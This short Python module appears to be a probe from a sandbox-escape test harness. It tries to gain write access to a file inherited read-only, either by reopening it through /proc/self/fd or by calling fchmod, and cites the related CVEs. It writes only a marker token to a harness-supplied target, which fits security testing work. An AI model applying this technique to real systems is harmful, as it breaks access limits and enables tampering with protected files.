"""Get more rights out of an inherited descriptor that was opened for reading only.

Opening /proc/self/fd/N opens the file anew, with whatever rights its owner has; fchmod() changes
its mode, for which reading rights are enough.
Sources: proc(5); CVE-2019-19921; CVE-2025-52881.
"""

import os


def attempt(target):
    """Reopen for writing, or change the mode, of the file that the harness left open."""
    target.step("look")
    try:
        found = os.fstat(target.descriptor).st_ino
    except OSError:
        found = 0
    if found != target.inode:
        return target.absent("descriptor %d is not the harness's file here" % target.descriptor)
    target.step("reopen")
    if target.way == "fchmod":
        os.fchmod(target.descriptor, target.mode)
        return "changed the mode"
    descriptor = os.open(target.way % target.descriptor, os.O_RDWR)
    target.step("write")
    os.pwrite(descriptor, target.token.encode(), 0)
    return "wrote through %s" % target.way
